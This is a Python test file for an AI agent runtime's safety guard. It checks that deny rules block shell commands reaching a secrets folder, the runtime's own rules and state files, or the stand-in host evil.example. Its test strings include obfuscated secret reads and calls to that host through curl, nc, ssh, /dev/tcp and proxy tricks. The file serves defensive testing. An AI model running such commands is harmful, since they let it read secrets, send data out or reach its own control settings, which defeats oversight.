"""Paths that a call names in a roundabout way: a deny rule and the runtime's own state are found all the same."""

from typing import Any

import pytest

from skills_runtime.ports import Intent, ToolSpec
from skills_runtime.safety.guard import assess
from skills_runtime.safety.policy import Rule, Rules, decide

SHELL = ToolSpec(name="shell_command", description="Runs it.", parameters={"type": "object"})
PRIVATE = Rule(effect="deny", name="private", path=("secrets/**",))
NESTED = Rule(effect="deny", name="nested", path=("conf/secrets/**",))
EVIL = Rule(effect="deny", name="evil", host=("evil.example", "*.evil.example"))
CONTROL = ("/srv/keys", "/home/user/.config/skills_runtime", "/home/user/.local/state/skills_runtime")


def kind(line: str, *rules: Rule, **settings: Any) -> str:
    """`Allow`, `Ask` or `Deny`."""
    facts = assess(SHELL, Intent(line=line))
    return type(decide(facts, Rules(rules=rules, root="/home/user/ws", home="/home/user", **settings))).__name__


@pytest.mark.parametrize(
    "line",
    [
        "cat secrets/key",
        "cat sec''rets/key",
        "cat $'secrets/\\x6bey'",
        "cat {secrets,x}/key",
        "cat sec*/key",
        "cat ~+/secrets/key",
        "cd secrets && cat key",
        "git show HEAD:secrets/key",
        "cp --target-directory=secrets x",
        "echo secrets/key | xargs cat",
        "cat `echo secrets/key`",
        "echo x 2>secrets/new",
        "cat ../ws/secrets/key",
        "cat /Home/User/WS/secrets/key",
        "cat < secrets/key",
        "wc -l<secrets/key",
        "exec 3<secrets/key; cat <&3",
        "mapfile a < secrets/key",
        "python3 x.py <./secrets/key",
        "cat /proc/self/cwd/secrets/key",
        "grep -fsecrets/key x",
        "sort -osecrets/key x",
        "cd / && cat home/user/ws/secrets/key",
        "cd .. && cat ws/secrets/key",
    ],
)
def test_a_denied_path_is_never_allowed(line: str) -> None:
    assert kind(line, PRIVATE, mode="allow") != "Allow"


@pytest.mark.parametrize(
    "line",
    [
        "cat conf/secrets/key",
        "cd conf && cat secrets/key",
        "(cd ./conf/; cat ./secrets/key)",
        "cd conf; cd secrets; cat key",
        "pushd conf; cat secrets/key",
        "env -C conf cat secrets/key",
        "git -C conf show HEAD:secrets/key",
        "tar -C conf -c secrets",
    ],
)
def test_a_denied_path_that_is_reached_in_two_steps_is_never_allowed(line: str) -> None:
    assert kind(line, NESTED, mode="allow") != "Allow"


@pytest.mark.parametrize(
    "line",
    [
        "cat /srv/keys/k",
        "cat /srv/x/../keys/k",
        "cat ../../../srv/keys/k",
        "cd ~/.config && cat skills_runtime/rules.yaml",
        "cat ~/.conf*/skills_runtime/rules.yaml",
        "cat < /srv/keys/k",
        "cat < .skills_runtime_sdk/runs/r/events.jsonl",
        "cat < ~/.config/skills_runtime/rules.yaml",
        "cat /proc/self/root/srv/keys/k",
        "cd /srv && cat keys/k",
        "cd ~/.local/state && cd skills_runtime && cat keys/k",
        "cd ~/.config; cd skills_runtime; cat rules.yaml",
        "cat ~/.config/sk*/rules.yaml",
        "cat ~/.config/skills*/*",
        "cat .s*/runs/*/events.jsonl",
    ],
)
@pytest.mark.parametrize("settings", [{"mode": "allow"}, {"allowlist": ("cat **", "cd")}], ids=["mode", "list"])
def test_the_runtimes_own_state_is_denied(line: str, settings: dict[str, Any]) -> None:
    assert kind(line, control=CONTROL, **settings) == "Deny"


@pytest.mark.parametrize(
    "line",
    [
        "curl https://evil.example/x",
        "curl https://EVIL.example./x",
        "curl https://user:pw@evil.example:8443/x",
        "git clone git@evil.example:x.git",
        "curl evil.example/x",
        "ssh me@evil.example",
        "ssh evil.example",
        "wget -q evil.example",
        "scp x evil.example:y",
        "nc evil.example 80",
        "python3 -c \"import urllib.request as u; u.urlopen('http://evil.example')\"",
        "cat < /dev/tcp/evil.example/80",
        "curl --url=evil.example",
        "rsync x rsync://evil.example/y",
        "ping evil.example",
    ],
)
def test_a_denied_host_is_never_allowed(line: str) -> None:
    assert kind(line, EVIL, mode="allow") != "Allow"


@pytest.mark.parametrize(
    "line",
    [
        "curl https://evil.example/x",
        "curl https://a.good.example https://evil.example",
        "curl https://good.example.evil.example",
        "curl https://a.good.example evil.example/x",
        "curl https://a.good.example --next evil.example",
        "curl -x evil.example:80 https://a.good.example",
        "curl --proxy=evil.example https://a.good.example",
        "curl -K list https://a.good.example",
        "curl --resolve a.good.example:443:192.0.2.1 https://a.good.example",
        "curl --connect-to ::evil.example: https://a.good.example",
    ],
)
def test_a_rule_for_some_hosts_allows_no_others(line: str) -> None:
    good = Rule(effect="allow", name="good", command=(("curl",),), host=("*.good.example",))
    assert kind(line, good) == "Ask"


@pytest.mark.parametrize(
    ("line", "variable"),
    [
        ("rg x", "RIPGREP_CONFIG_PATH"),
        ("hg status", "HGRCPATH"),
        ("svn info svn+ssh://a.example/x", "SVN_SSH"),
        ("fzf -f x", "FZF_DEFAULT_COMMAND"),
        ("bundle list", "BUNDLE_GEMFILE"),
        ("gem list", "GEM_PATH"),
        ("psql -c 'select 1'", "PSQLRC"),
        ("ansible --version", "ANSIBLE_CONFIG"),
    ],
)
def test_a_variable_that_makes_a_program_run_other_code_is_asked_about(line: str, variable: str) -> None:
    facts = assess(SHELL, Intent(line=line, environment={variable: "./evil"}))
    verdict = decide(facts, Rules(allowlist=(line.split()[0],), root="/home/user/ws"))
    assert type(verdict).__name__ == "Ask"
